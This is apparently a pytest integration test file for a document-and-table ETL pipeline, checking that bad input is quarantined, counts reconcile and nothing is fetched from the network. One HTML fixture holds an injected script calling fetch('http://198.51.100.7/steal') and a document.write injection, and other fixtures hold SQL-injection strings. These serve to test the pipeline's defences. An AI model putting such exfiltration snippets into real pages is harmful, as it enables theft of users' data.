"""The real flow on a folder full of bad input: the run succeeds, every row is accounted for, nothing is fetched."""
from __future__ import annotations

import shutil
import socket
from collections.abc import Iterator
from pathlib import Path

import duckdb
import polars as pl
import pytest
from typer.testing import CliRunner

from bad_corpus import (DOCUMENT_CASES, GOOD_DOCUMENT, GOOD_TABLE, GOOD_TABLE_BYTES, INJECTION, TABLE_CASES,
                        write_sources)

pytestmark = pytest.mark.slow
ROOT = Path(__file__).resolve().parents[2]
LOOPBACK = {"127.0.0.1", "::1", "localhost", "0.0.0.0"}


def bad_folder(root: Path) -> Path:
    """Every document kind and every table kind, in one sources folder."""
    files: dict = {}
    manifests: list[bytes] = []
    for case in DOCUMENT_CASES:
        for rel, content in case.files.items():
            if rel == "sources.toml":
                manifests.append(content)
            else:
                files[rel] = content
    for case in TABLE_CASES:
        files[case.relpath] = case.content
    files[GOOD_TABLE] = GOOD_TABLE_BYTES
    files["sources.toml"] = b"\n".join(manifests)
    write_sources(root, files)
    shutil.copy(ROOT / "tests" / "fixtures" / "devset" / "documents" / "07_blr-vnm_golovchenko-visit.html",
                root / "documents" / "zz_good_page.html")
    return root


@pytest.fixture
def network_calls(monkeypatch: pytest.MonkeyPatch) -> Iterator[list]:
    """Every attempt to reach a host other than this machine (Prefect's own test server is local)."""
    calls: list = []
    real_connect, real_connect_ex, real_getaddrinfo = socket.socket.connect, socket.socket.connect_ex, socket.getaddrinfo

    def outside(address) -> bool:
        return isinstance(address, tuple) and str(address[0]) not in LOOPBACK

    def connect(self, address):
        if outside(address):
            calls.append(("connect", address))
            raise OSError("network access is not allowed during a dyad run")
        return real_connect(self, address)

    def connect_ex(self, address):
        if outside(address):
            calls.append(("connect_ex", address))
            return 111
        return real_connect_ex(self, address)

    def getaddrinfo(host, *args, **kwargs):
        if host is not None and str(host) not in LOOPBACK:
            calls.append(("getaddrinfo", host))
        return real_getaddrinfo(host, *args, **kwargs)

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket.socket, "connect_ex", connect_ex)
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    yield calls


@pytest.fixture(scope="module")
def bad_run(prefect_server, tmp_path_factory) -> tuple[Path, Path, object]:
    """(sources, db, summary) of one real run over the whole bad folder."""
    from flows.orchestrate.pipeline import pipeline

    base = tmp_path_factory.mktemp("bad_run")
    sources, db = bad_folder(base / "sources"), base / "dyad.duckdb"
    summary = pipeline(sources=str(sources), db=str(db))
    return sources, db, summary


def rows(db: Path, sql: str, params: list | None = None) -> list[dict]:
    with duckdb.connect(str(db), read_only=True) as con:
        cursor = con.execute(sql, params or [])
        names = [d[0] for d in cursor.description]
        return [dict(zip(names, row)) for row in cursor.fetchall()]


def test_the_run_succeeds_and_every_stage_reconciles(bad_run) -> None:
    _, db, summary = bad_run
    assert summary.status == "succeeded"
    run = rows(db, "select * from etl_run")
    assert [(r["run_id"], r["status"]) for r in run] == [(summary.run_id, "succeeded")]
    stages = rows(db, "select * from etl_run_stage where run_id = ?", [summary.run_id])
    names = {s["stage"] for s in stages}
    assert {"discover", "ingest_documents", "extract", "ingest_tables"} <= names
    for stage in stages:
        assert stage["rows_in"] == stage["loaded"] + stage["quarantined"] + stage["skipped"], stage
    by_stage = {s["stage"]: s for s in stages}
    assert by_stage["discover"]["quarantined"] >= 10 and by_stage["ingest_documents"]["quarantined"] >= 10
    assert by_stage["ingest_tables"]["quarantined"] >= 15
    # every quarantined count is a quarantine row, and the other way round; a table file that cannot be read
    # at all has no rows to count (rows_in is rows, not files): its one 'file' row stands alone
    unreadable_tables = rows(db, """select count(*) as n from quarantine
                                    where run_id = ? and source like 'tables/%' and row_ref = 'file'""",
                             [summary.run_id])[0]["n"]
    assert sum(s["quarantined"] for s in stages) + unreadable_tables == summary.quarantined


def test_every_bad_file_is_loaded_or_quarantined_with_its_reason(bad_run) -> None:
    sources, db, summary = bad_run
    quarantine = pl.DataFrame(rows(db, "select * from quarantine where run_id = ?", [summary.run_id]))
    assert quarantine.height == summary.quarantined
    assert quarantine.filter((pl.col("reason") == "") | (pl.col("source") == "") | (pl.col("row_ref") == "")).is_empty()
    documents = {r["path"] for r in rows(db, "select path from dim_document")}
    assert {GOOD_DOCUMENT, "documents/zz_good_page.html"} <= documents
    for case in DOCUMENT_CASES:
        mine = quarantine.filter(pl.col("source") == case.relpath)
        if case.outcome == "quarantined":
            assert case.relpath not in documents
            assert any(case.reason.lower() in r.lower() for r in mine["reason"]), (case.kind, mine["reason"].to_list())
        elif case.outcome == "loaded":
            assert case.relpath in documents, case.kind
            ingest = mine.filter(pl.col("stage") == "ingest")
            assert ingest.filter(pl.col("row_ref") == "file").is_empty(), case.kind
            if case.part:
                assert case.part_ref in ingest.filter(pl.col("reason").str.contains(case.part, literal=True))[
                    "row_ref"].to_list(), case.kind
    # the 9.5 MB article loads; its extraction is over the budget: one extract row says so, the run goes on
    long_article = quarantine.filter((pl.col("source") == "documents/long.txt") & (pl.col("stage") == "extract"))
    assert long_article["reason"].str.contains("over the extraction budget").to_list() == [True]
    for case in TABLE_CASES:
        if not case.reason:
            continue
        mine = quarantine.filter(pl.col("source") == case.relpath)
        assert any(case.reason.lower() in r.lower() for r in mine["reason"]), (case.kind, mine["reason"].to_list())
    reported = rows(db, "select source from fact_trade_reported where source = ?", [GOOD_TABLE])
    assert len(reported) == 1


def test_good_documents_beside_bad_ones_are_extracted(bad_run) -> None:
    _, db, _ = bad_run
    mentions = rows(db, """
        select d.path, count(*) as n from fact_event_mention as m join dim_document as d using (document_key)
        group by 1
    """)
    per_path = {r["path"]: r["n"] for r in mentions}
    assert per_path.get(GOOD_DOCUMENT, 0) >= 5 and per_path.get("documents/zz_good_page.html", 0) >= 3


def test_sql_in_input_is_stored_as_text_and_every_table_survives(bad_run) -> None:
    _, db, _ = bad_run
    text = rows(db, "select text from dim_document where path = 'documents/injection.txt'")
    assert INJECTION in text[0]["text"]
    assert rows(db, "select speaker from fact_trade_reported where source = 'tables/injection.csv'") == [
        {"speaker": INJECTION.replace(",", "")}]
    assert rows(db, "select count(*) as n from dim_document where path = ?", [f"documents/{INJECTION}.txt"]) == [
        {"n": 1}]
    assert rows(db, "select count(*) as n from fact_trade_reported where source = ?", [f"tables/{INJECTION}.csv"]) == [
        {"n": 1}]
    tables = {r["table_name"] for r in rows(db, "select table_name from information_schema.tables")}
    assert {"dim_document", "fact_event_mention", "quarantine", "etl_run", "fact_trade"} <= tables


def test_dyad_quarantine_lists_the_last_runs_rejects(bad_run, monkeypatch: pytest.MonkeyPatch) -> None:
    from rich.console import Console

    import flows.cli.query
    from flows.cli import app

    _, db, summary = bad_run
    # the command's console took its width when flows.cli was imported (COLUMNS then, or 100,000 when piped):
    # a console 250 wide for this call, so no cell of the listing wraps whatever COLUMNS the session has
    monkeypatch.setattr(flows.cli.query, "out", Console(width=250))
    result = CliRunner().invoke(app, ["quarantine", "--db", str(db)], env={"COLUMNS": "250"})
    assert result.exit_code == 0, result.output
    first = result.output.splitlines()[0]
    assert first == f"last run {summary.run_id} (succeeded): {summary.quarantined} rows quarantined"
    assert "documents/empty.txt" in result.output and "too large: 50.0 MB" in result.output


def test_second_runs_are_accounted_for(bad_run, prefect_server) -> None:
    """Again into the same database: unchanged files are skipped (and counted so); with full, the same rejects."""
    from flows.orchestrate.pipeline import pipeline

    sources, db, first = bad_run
    again = pipeline(sources=str(sources), db=str(db))
    stages = {s["stage"]: s for s in rows(db, "select * from etl_run_stage where run_id = ?", [again.run_id])}
    assert again.status == "succeeded"
    assert all(s["rows_in"] == s["loaded"] + s["quarantined"] + s["skipped"] for s in stages.values())
    first_discover = next(s for s in first.stages if s["stage"] == "discover")
    assert stages["discover"]["skipped"] == first_discover["loaded"]  # every readable file, unchanged
    assert stages["discover"]["quarantined"] == first_discover["quarantined"]  # path problems are seen every run

    full = pipeline(sources=str(sources), db=str(db), full=True)
    assert full.status == "succeeded" and full.quarantined == first.quarantined
    reasons = "select stage, source, row_ref, reason from quarantine where run_id = ? order by all"
    assert rows(db, reasons, [full.run_id]) == rows(db, reasons, [first.run_id])


def test_nothing_is_fetched_and_no_script_runs(prefect_server, network_calls: list, tmp_path: Path) -> None:
    """Documents full of URLs, scripts, images and frames: a whole run reaches no host but this machine."""
    from flows.orchestrate.pipeline import pipeline

    page = ("<html><head><link rel='stylesheet' href='http://tracker.example.com/s.css'>"
            "<script src='https://tracker.example.com/x.js'></script>"
            "<meta http-equiv='refresh' content='0; url=http://tracker.example.com/'></head><body><article>"
            "<p>Baku, 12 June 2023: Azerbaijan and Belarus signed an agreement, reports "
            "<a href='http://tracker.example.com/story'>http://tracker.example.com/story</a>.</p>"
            "<img src='http://198.51.100.7/pixel.gif'><iframe src='https://tracker.example.com/f'></iframe>"
            "<script>fetch('http://198.51.100.7/steal'); document.write('INJECTED')</script></article></body></html>")
    files = {"documents/urls.html": page.encode(),
             "documents/urls.md": b"---\ntitle: Links\n---\n![img](http://tracker.example.com/i.png) See "
                                  b"<http://tracker.example.com/> and [this](https://198.51.100.7/x).\n",
             "tables/remote.csv": (GOOD_TABLE_BYTES.decode().replace("https://example.org/a",
                                                                     "http://tracker.example.com/data")).encode()}
    root = write_sources(tmp_path / "sources", files)
    summary = pipeline(sources=str(root), db=str(tmp_path / "dyad.duckdb"))
    assert summary.status == "succeeded" and summary.documents == 3
    assert network_calls == []
    text = rows(tmp_path / "dyad.duckdb", "select text from dim_document where path = 'documents/urls.html'")[0]["text"]
    assert "signed an agreement" in text and "INJECTED" not in text and "fetch(" not in text


def test_a_folder_of_only_bad_input_gives_a_valid_empty_run(prefect_server, tmp_path: Path) -> None:
    """Nothing loadable at all: the run still succeeds, says how many rows it rejected, and the views work."""
    from flows.orchestrate.pipeline import pipeline

    files = {rel: content for c in DOCUMENT_CASES for rel, content in c.files.items()
             if c.outcome == "quarantined" and rel.startswith("documents/") and c.kind not in {
                 "an enormous document (50 MB)", "a future publication date in the manifest"}}
    root = write_sources(tmp_path / "sources", files, good=False)
    db = tmp_path / "dyad.duckdb"
    summary = pipeline(sources=str(root), db=str(db))
    assert summary.status == "succeeded" and summary.documents == 0
    assert summary.quarantined == rows(db, "select count(*) as n from quarantine")[0]["n"] >= len(files)
    assert rows(db, "select count(*) as n from v_relations_timeline") == [{"n": 0}]


def test_an_unreadable_manifest_fails_the_run_with_one_clear_line(prefect_server, tmp_path: Path) -> None:
    """The manifest says what every file is: when it does not parse, nothing is loaded and the reason is kept."""
    from flows.ingest.discover import ManifestError
    from flows.orchestrate.pipeline import pipeline

    root = write_sources(tmp_path / "sources", {"sources.toml": b"[[source]]\npath = \"documents/a.txt\"\nkind = "})
    db = tmp_path / "dyad.duckdb"
    with pytest.raises(ManifestError) as error:
        pipeline(sources=str(root), db=str(db))
    assert "sources.toml: not valid TOML" in str(error.value)
    # the run is recorded as failed with its reason, and nothing else was written
    run = rows(db, "select status, error from etl_run")
    assert [r["status"] for r in run] == ["failed"] and "sources.toml: not valid TOML" in run[0]["error"]
    assert rows(db, "select count(*) as n from quarantine") == [{"n": 0}]
